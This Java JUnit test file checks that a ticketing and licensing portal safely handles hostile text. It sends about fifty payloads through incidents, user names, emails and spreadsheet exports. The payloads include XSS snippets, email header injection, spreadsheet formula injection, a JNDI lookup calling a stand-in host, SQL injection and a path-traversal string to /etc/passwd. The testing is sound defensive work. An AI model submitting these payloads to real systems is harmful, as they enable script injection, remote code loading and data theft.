package portal.endtoend;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Texts that somebody else's program would run, decode or obey go through contacts, incidents and users. Each is
 * refused with 422, or comes out as it went in and changes nothing around it.
 */
@ExtendWith(SharedPortal.class)
class HostileTextsTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    private static final List<String> PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<a href=\"https://prize.example\">click</a>",
            "</td></tr></table><h1>Paid</h1>",
            "<!-- ",
            "--><b>",
            "]]><x/>",
            "<style>*{display:none}</style>",
            "<meta http-equiv=refresh content=0>",
            "<svg/onload=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "' onmouseover='alert(1)",
            "&lt;b&gt; &amp; &#60;",
            "javascript:alert(1)",
            "data:text/html,<b>x</b>",
            "https://prize.example/?a=1&b=2",
            "www.prize.example",
            "mailto:thief@prize.example?bcc=all@prize.example",
            "[click](https://prize.example)",
            "# heading *bold* `code`",
            "\r\nBcc: all@prize.example",
            "\nSubject: Paid",
            "%0d%0aBcc: all@prize.example",
            "=?UTF-8?B?PHNjcmlwdD4=?=",
            "=?UTF-8?Q?=E2=80=AEgnp?=",
            "\u202Egnp.exe",
            "\u2066hidden\u2069",
            "zero\u200Bwidth\u200D\uFEFF",
            "\u0000null",
            "\u001B[31mred",
            "\u0085\u2028\u2029lines",
            "\uD83D\uDE00 emoji \uD83D\uDC69\u200D\uD83D\uDCBB",
            "\u05E9\u05DC\u05D5\u05DD",
            "Z\u0351\u0327\u0306a\u0332l\u0334g\u0321o",
            "=1+1",
            "=HYPERLINK(\"https://prize.example\")",
            "+1+1",
            "-1+1",
            "@SUM(A1:A9)",
            "\t=1+1",
            "_x000D_",
            "{{7*7}}",
            "${jndi:ldap://prize.example/a}",
            "#{7*7}",
            "%s %n %1$s %%",
            "{0} {1}",
            "' OR '1'='1",
            "ORGANIZATION#globex",
            "\\\\u0000 \\n \\\" \\",
            "../../etc/passwd");

    private static final List<String> PLACES = List.of("%s", "a %s z", "%sz", "a%s");

    private static final String HARMLESS = "harmless";

    private final PortalClient portal = SharedPortal.client();
    private String organization;
    private PortalClient.As boss;

    static List<String> texts() {
        return PAYLOADS.stream()
                .flatMap(payload -> PLACES.stream().map(place -> place.replace("%s", payload)))
                .toList();
    }

    @BeforeEach
    void givenAnOrganization() {
        organization = SharedPortal.organization();
        boss = portal.contact(organization, "boss");
        assertThat(boss.put("/contacts/boss/roles", "{\"roles\": [\"ADMINISTRATOR\", \"INCIDENT_MANAGER\"]}")
                        .status())
                .isEqualTo(200);
    }

    @Test
    void areTwoHundred() {
        assertThat(texts()).hasSize(200).doesNotHaveDuplicates();
    }

    @Test
    void standInIncidentsAndTheirMailsAsWhatTheyAre() {
        var texts = new HashMap<String, String>();
        for (var text : Stream.concat(Stream.of(HARMLESS), texts().stream()).toList()) {
            var renamed = boss.put("/me", json(Map.of("name", text, "language", "en")));
            assertThat(renamed.status()).as(text).isIn(200, 422);
            var submitted =
                    boss.post("/incidents", json(Map.of("subject", text, "description", text, "severity", "HIGH")));
            assertThat(submitted.status()).as(submitted.toString()).isIn(201, 422);
            if (submitted.status() == 201) {
                texts.put(submitted.json().path("number").asText(), text);
            }
        }
        assertThat(texts).hasSizeGreaterThan(150);
        assertThat(shown(boss.get("/incidents?limit=100"))).containsOnlyKeys(texts.keySet());
        texts.forEach((number, text) -> {
            var incident = boss.get("/incidents/" + number).json();
            assertThat(incident.path("subject").asText()).isEqualTo(trimmed(text));
            assertThat(incident.path("description").asText()).isEqualTo(trimmed(text));
        });

        SharedPortal.settle();
        var mails = mailsAbout(texts.keySet());
        assertThat(mails).hasSize(2 * texts.size());
        var forms = new HashMap<String, Set<List<String>>>();
        for (var mail : mails) {
            assertThat(mail.path("subject").asText())
                    .doesNotContainPattern("[\\p{Cntrl}\\u0085\\u2028\\u2029\\u202A-\\u202E\\u2066-\\u2069]")
                    .doesNotContain("=?");
            assertThat(mail.path("headers").findValuesAsText("name")).doesNotContain("Bcc");
            forms.computeIfAbsent(mail.path("to").get(0).asText(), to -> new HashSet<>())
                    .add(form(mail.path("html").asText()));
        }
        assertThat(forms).hasSize(2).allSatisfy((to, differing) -> assertThat(differing)
                .as("forms of the mail to " + to)
                .hasSize(1));
    }

    @Test
    void standInTheWorkbookAsNamesOfUsers() throws IOException {
        var path = "/organizations/" + organization;
        assertThat(portal.backOffice().put(path + "/license", """
                                {"granted": [{"metric": "PROFIT_USERS", "maximum": 500}, {"metric": "ENVIRONMENTS", "maximum": 5}]}""").status()).isEqualTo(204);
        var environment = path + "/environments/O12345AA";
        assertThat(portal.backOffice().put(environment, "").status()).isEqualTo(200);
        var names = new HashMap<String, String>();
        for (var text : texts()) {
            var code = "U" + names.size();
            var claimed = portal.backOffice()
                    .put(environment + "/users/" + code, json(Map.of("kinds", List.of("PROFIT"), "name", text)));
            assertThat(claimed.status()).as(claimed.toString()).isIn(200, 422);
            if (claimed.status() == 200) {
                names.put(code, text);
            }
        }
        assertThat(names).hasSizeGreaterThan(150);
        assertThat(holders()).isEqualTo(names);

        boss.post("/license/analyses", json(Map.of("email", "boss@" + organization + ".example")));
        SharedPortal.settle();

        try (var workbook = MailedAnalyses.workbook("boss@" + organization + ".example")) {
            var users = workbook.getSheet("Gebruikers");
            assertThat(users.getLastRowNum()).isEqualTo(names.size());
            for (var row : users) {
                assertThat(row.getCell(1).getCellType()).isEqualTo(CellType.STRING);
                var name = names.getOrDefault(text(row, 0), "Naam");
                if (name.codePoints().noneMatch(Character::isISOControl)) {
                    assertThat(text(row, 1)).isEqualTo(name);
                }
            }
        }
    }

    private Map<String, JsonNode> shown(PortalClient.Reply first) {
        var shown = new HashMap<String, JsonNode>();
        for (var page = first.json(); ; ) {
            page.path("items")
                    .forEach(incident -> shown.put(incident.path("number").asText(), incident));
            if (!page.has("next")) {
                return shown;
            }
            page = boss.get("/incidents?limit=100&cursor=" + page.path("next").asText())
                    .json();
        }
    }

    private Map<String, String> holders() {
        var names = new HashMap<String, String>();
        for (var path = "/license/metrics/PROFIT_USERS/holders?limit=100"; !path.isEmpty(); ) {
            var page = boss.get(path).json();
            page.path("items")
                    .forEach(user -> names.put(
                            user.path("holder").asText(), user.path("name").asText()));
            path = page.has("next")
                    ? "/license/metrics/PROFIT_USERS/holders?limit=100&cursor="
                            + page.path("next").asText()
                    : "";
        }
        return names;
    }

    private List<JsonNode> mailsAbout(Set<String> numbers) {
        var about = new ArrayList<JsonNode>();
        for (var mail : portal.local("/local/mail")) {
            if (numbers.stream()
                    .anyMatch(number -> mail.path("subject").asText().contains(number + ":")
                            || mail.path("subject").asText().contains(number + " "))) {
                about.add(portal.local("/local/mail/" + mail.path("id").asText()));
            }
        }
        return about;
    }

    /** The elements, with their attributes, and where links lead. Lines of what somebody wrote may be more or fewer. */
    private static List<String> form(String html) {
        return Jsoup.parse(html).getAllElements().stream()
                .filter(element -> !element.tagName().equals("br"))
                .map(HostileTextsTest::form)
                .toList();
    }

    private static String form(Element element) {
        var attributes = element.attributes().asList().stream()
                .map(Attribute::toString)
                .map(attribute -> attribute.replaceAll("INC-[0-9]+", "INC"))
                .toList();
        return element.tagName().toLowerCase(Locale.ROOT) + attributes;
    }

    private static String trimmed(String text) {
        return text.replaceAll("^\\p{IsWhite_Space}+|\\p{IsWhite_Space}+$", "");
    }

    private static String text(Row row, int column) {
        return row.getCell(column).getStringCellValue();
    }

    private static String json(Map<String, Object> members) {
        return JSON.valueToTree(members).toString();
    }
}
